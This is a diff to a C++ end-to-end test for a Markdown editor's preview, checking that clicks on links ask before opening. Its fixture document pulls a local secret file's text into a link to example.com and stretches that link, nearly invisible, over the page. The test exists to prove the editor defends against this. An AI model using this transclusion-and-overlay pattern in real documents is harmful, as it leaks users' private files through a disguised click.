@@ -33,8 +33,9 @@ QString encoded(const QUrl &url) { return QString::fromUtf8(url.toEncoded()); }
 }  // namespace
 
 // doc/copy.md links to the sample one folder up, beside a namesake in its
-// own folder, and to a file that is not there; its script lays an invisible
-// link holding the document's text over the whole page.
+// own folder, to a file that is not there, and to a search whose query has
+// braces; its script lays an invisible link holding the document's text
+// over the whole page.
 TEST(PreviewLinksEndToEnd, AClickOpensWhatTheDocumentWritesWhereItLeadsAndAsksAboutTheRest) {
     StandInOpener &opener = StandInOpener::install();
     opener.clear();
@@ -47,7 +48,7 @@ TEST(PreviewLinksEndToEnd, AClickOpensWhatTheDocumentWritesWhereItLeadsAndAsksAb
 
 Dear diary, nobody knows.
 
-See [the sample](../sample.md) and [the lost one](../lost.md).
+See [the sample](../sample.md) and [the lost one](../lost.md), or [search](https://example.com/find?q={diary}).
 
 <script>
 function cover() {
@@ -77,6 +78,12 @@ function cover() {
         EXPECT_EQ(opener.calls(), QStringList{encoded(QUrl::fromLocalFile(root.filePath("sample.md")))});
         EXPECT_EQ(alerts.count(), 0);
 
+        // One whose address the page and the engine escape differently.
+        ASSERT_TRUE(web_test::clickElement(preview, "a[href^=\"https://example.com/find\"]"));
+        ASSERT_TRUE(testing_qt::spinUntil([&] { return opener.calls().size() == 2; }, 20s));
+        EXPECT_EQ(opener.calls().last(), "https://example.com/find?q=%7Bdiary%7D");
+        EXPECT_EQ(alerts.count(), 0);
+
         // One that leads nowhere is told, once.
         ASSERT_TRUE(web_test::clickElement(preview, "a[href=\"../lost.md\"]"));
         ASSERT_TRUE(testing_qt::spinUntil([&] { return alerts.count() == 1; }, 20s));
@@ -85,7 +92,7 @@ function cover() {
         EXPECT_EQ(alerts.shown()[0].messageText, "Not Opened");
         EXPECT_TRUE(alerts.shown()[0].informativeText.contains(encoded(QUrl::fromLocalFile(root.filePath("lost.md")))))
             << alerts.shown()[0].informativeText.toStdString();
-        EXPECT_EQ(opener.calls().size(), 1);
+        EXPECT_EQ(opener.calls().size(), 2);
 
         // A click on the text under the script's link asks first, with the
         // whole address: Cancel opens nothing, Open opens it.
@@ -95,9 +102,9 @@ function cover() {
         ASSERT_TRUE(web_test::clickElement(preview, "h1"));
         ASSERT_TRUE(testing_qt::spinUntil([&] { return alerts.count() == 2; }, 20s));
         testing_qt::spinFor(1s);
-        EXPECT_EQ(opener.calls().size(), 1);
+        EXPECT_EQ(opener.calls().size(), 2);
         ASSERT_TRUE(web_test::clickElement(preview, "h1"));
-        ASSERT_TRUE(testing_qt::spinUntil([&] { return opener.calls().size() == 2; }, 20s));
+        ASSERT_TRUE(testing_qt::spinUntil([&] { return opener.calls().size() == 3; }, 20s));
         EXPECT_EQ(opener.calls().last(), cover);
         ASSERT_EQ(alerts.count(), 3);
         for (int i : {1, 2}) {
@@ -105,5 +112,74 @@ function cover() {
             EXPECT_EQ(alerts.shown()[i].informativeText, cover);
             EXPECT_EQ(alerts.shown()[i].buttons, QStringList({"Open", "Cancel"}));
         }
+    }
+}
+
+// With transclusion on, a document's raw HTML writes a link whose address
+// holds a file of the user's, taken in ("{{...}}"), and its script stretches
+// that link over the page, nearly transparent. A click on plain text asks,
+// with the whole address, and Cancel opens nothing; a click on the link's
+// own text asks too, for its address may hold any file's text. With
+// transclusion off, the same link, plainly shown, opens at once.
+TEST(PreviewLinksEndToEnd, AClickAsksBeforeAnAddressThatMayHoldAnotherFilesText) {
+    StandInOpener &opener = StandInOpener::install();
+    opener.clear();
+    QTemporaryDir root;
+    ASSERT_TRUE(QDir(root.path()).mkpath("secret") && QDir(root.path()).mkpath("notes/doc"));
+    ASSERT_TRUE(writeFile(root.filePath("secret/secret.txt"), "TOPSECRET-42"));
+    const QString document = root.filePath("notes/doc/notes.md");
+    ASSERT_TRUE(writeFile(document, R"md(# Notes
+
+Dear diary, nobody knows.
+
+<a id="more" href="https://example.com/t?d={{../../secret/secret.txt}}">more</a>
+
+<script>
+function stretch(on) {
+  document.getElementById('more').style.cssText =
+    on ? 'position:fixed;left:0;top:0;right:0;bottom:0;opacity:0.01' : '';
+}
+stretch(true);
+</script>
+)md"));
+    NewUser user(root.filePath("preferences.json"));
+    user.defaults().setBool(true, "EXT_TRANSCLUDE");
+    platform::ScriptedAlerts alerts;
+    {
+        Application application(user.defaults(), TZRThemeController::standardLocations());
+        SmartEditorDocument *opened = application.open(document);
+        ASSERT_TRUE(opened);
+        auto *content = dynamic_cast<TZRMasterView *>(opened->content());
+        ASSERT_TRUE(content && content->webView());
+        SmartWebView &preview = *content->webView();
+        ASSERT_TRUE(previewShows(&preview, "Dear diary"));
+        const QString address = "https://example.com/t?d=TOPSECRET-42";
+        ASSERT_EQ(web_test::evaluateText(preview, "document.getElementById('more').href"), address);
+
+        alerts.addAnswers({1, 1});
+        ASSERT_TRUE(web_test::clickElement(preview, "h1"));
+        ASSERT_TRUE(testing_qt::spinUntil([&] { return alerts.count() == 1; }, 20s));
+        web_test::evaluate(preview, "stretch(false)");
+        ASSERT_TRUE(web_test::clickElement(preview, "#more"));
+        ASSERT_TRUE(testing_qt::spinUntil([&] { return alerts.count() == 2; }, 20s));
+        testing_qt::spinFor(1s);
+        EXPECT_EQ(opener.calls(), QStringList());
+        for (const platform::Alert &alert : alerts.shown()) {
+            EXPECT_EQ(alert.messageText, "Open this address?");
+            EXPECT_EQ(alert.informativeText, address);
+            EXPECT_EQ(alert.defaultButton, 1);
+        }
+
+        // Transclusion off: the link, written by the document and plainly
+        // shown, opens at once.
+        user.defaults().setBool(false, "EXT_TRANSCLUDE");
+        ASSERT_TRUE(testing_qt::spinUntil(
+            [&] { return previewText(&preview).contains("more") && !previewText(&preview).contains("TOPSECRET"); },
+            30s));
+        web_test::evaluate(preview, "stretch(false)");
+        ASSERT_TRUE(web_test::clickElement(preview, "#more"));
+        ASSERT_TRUE(testing_qt::spinUntil([&] { return opener.calls().size() == 1; }, 20s));
+        EXPECT_EQ(opener.calls().last(), "https://example.com/t?d=%7B%7B../../secret/secret.txt%7D%7D");
+        EXPECT_EQ(alerts.count(), 2);
     }
 }
